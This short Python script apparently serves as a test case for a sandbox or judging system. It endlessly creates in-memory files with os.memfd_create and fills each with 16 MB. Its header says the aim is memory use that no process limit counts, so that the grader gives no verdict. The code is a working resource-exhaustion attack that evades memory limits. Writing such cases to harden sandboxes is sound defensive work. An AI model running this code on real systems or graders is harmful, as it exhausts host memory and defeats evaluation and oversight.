# ---
# tries: Fills files in memory, which no limit of a process counts.
# place: instead
# gain: no verdict, so that the attempt may not count
# helps: memory-limit
# ---
import os

block = b"x" * (4 * 1024 * 1024)
while True:
    file = os.memfd_create("attack")
    for _ in range(4):
        os.write(file, block)
